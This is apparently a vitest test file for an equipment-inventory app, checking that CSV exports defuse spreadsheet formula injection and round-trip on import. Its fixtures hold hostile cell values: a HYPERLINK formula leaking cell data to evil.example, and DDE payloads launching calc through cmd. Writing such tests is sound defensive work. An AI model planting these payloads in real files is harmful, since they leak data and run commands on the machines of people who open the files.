import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import BetterSqlite3 from 'better-sqlite3';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../main/core/csv/parse';
import { writeCsv } from '../../../main/core/csv/write';
import { testBackend, tempDir } from '../../helpers/core';
import { cli } from './helpers';

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the manual")',
  model: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  serial: '-2+3',
  manufacturer: "'=already quoted",
  notes: '+1 call the ward',
};

/**
 * Issue 13, item 10: exports inject no formulas. A device named `=HYPERLINK(…)` is exported with a
 * quote in front of every cell a spreadsheet would run (the OWASP way), and the export imports
 * back unchanged; a plain number such as -5 stays a number.
 */
describe('CSV formula cells (item 10)', () => {
  it('neutralises them in an export, and an import of that export gives back the same inventory', async () => {
    const t = testBackend('supervisor');
    const loc = await t.backend.invoke(t.session, 'locations.create', { name: 'Ward 4B' });
    const locationId = (loc as { value: { id: string } }).value.id;
    expect(await t.backend.invoke(t.session, 'equipment.create', { assetTag: 'EV-1', locationId, ...HOSTILE })).toMatchObject({ ok: true });
    expect(await t.backend.invoke(t.session, 'equipment.create', { assetTag: 'NUM-1', name: 'Scale', serial: '-5', locationId })).toMatchObject({ ok: true });
    const out = path.join(tempDir(), 'inventory.csv');
    expect((await cli(['--data-dir', t.core.dataDir, 'export', 'equipment', '--out', out])).code).toBe(0);
    const text = readFileSync(out, 'utf8');
    const rows = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
    const ev = rows.find((r) => r.asset_tag === 'EV-1')!;
    for (const [field, value] of Object.entries(HOSTILE)) expect(ev[field], field).toBe(`'${value}`);
    expect(rows.find((r) => r.asset_tag === 'NUM-1')!.serial).toBe('-5');

    const other = tempDir();
    const imported = await cli(['--data-dir', other, 'import', 'equipment', out]);
    expect(imported.code, imported.stderr).toBe(0);
    const again = path.join(tempDir(), 'again.csv');
    expect((await cli(['--data-dir', other, 'export', 'equipment', '--out', again])).code).toBe(0);
    expect(readFileSync(again, 'utf8')).toBe(text);
  });

  /**
   * A spreadsheet also runs a cell that begins with a tab or a carriage return. The screens and the
   * import trim those off, so the device is given them the way anything else that reaches the
   * database could (an older version, another PC through the hub, a script): written into the file
   * with better-sqlite3. The export still writes each with its quote in front.
   */
  it('neutralises cells that begin with a tab or a carriage return', async () => {
    const t = testBackend('supervisor');
    const loc = await t.backend.invoke(t.session, 'locations.create', { name: 'Ward 4B' });
    const locationId = (loc as { value: { id: string } }).value.id;
    expect(await t.backend.invoke(t.session, 'equipment.create', { assetTag: 'WS-1', name: 'Monitor', locationId })).toMatchObject({ ok: true });
    const hostile = {
      name: '\t=HYPERLINK("http://evil.example/?leak="&A1,"manual")',
      model: '\r=cmd|\' /C calc\'!A0',
      serial: '\t-5',
      notes: '\r\n+1 call the ward',
    };
    const file = t.core.file;
    t.core.close();
    const db = new BetterSqlite3(file);
    db.prepare("UPDATE equipment SET name = @name, model = @model, serial = @serial, notes = @notes WHERE asset_tag = 'WS-1'").run(hostile);
    db.close();

    const out = path.join(tempDir(), 'inventory.csv');
    const res = await cli(['--data-dir', path.dirname(file), 'export', 'equipment', '--out', out]);
    expect(res.code, res.stderr).toBe(0);
    const rows = Papa.parse<Record<string, string>>(readFileSync(out, 'utf8'), { header: true, skipEmptyLines: true }).data;
    const row = rows.find((r) => r.asset_tag === 'WS-1')!;
    for (const [field, value] of Object.entries(hostile)) expect(row[field], field).toBe(`'${value}`);
    // And in the writer every export goes through, each character a spreadsheet runs.
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      const cell = `${lead}1+1`;
      expect(Papa.parse<string[]>(writeCsv(['x'], [[cell]])).data[1]![0], JSON.stringify(cell)).toBe(`'${cell}`);
    }
  });

  it('undoes exactly what it does, for any text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', '1', '.', ',', '"', ' ') }), { minLength: 1, maxLength: 5 }), (cells) => {
        const parsed = parseCsv(writeCsv(['a', 'b', 'c', 'd', 'e'].slice(0, cells.length), [cells]));
        // A record of blank cells is skipped by the reader; every other comes back as written.
        if (cells.every((c) => c.trim() === '')) return;
        expect(parsed.records[0]!.cells).toEqual(cells);
      }),
      { numRuns: 500 },
    );
  });
});
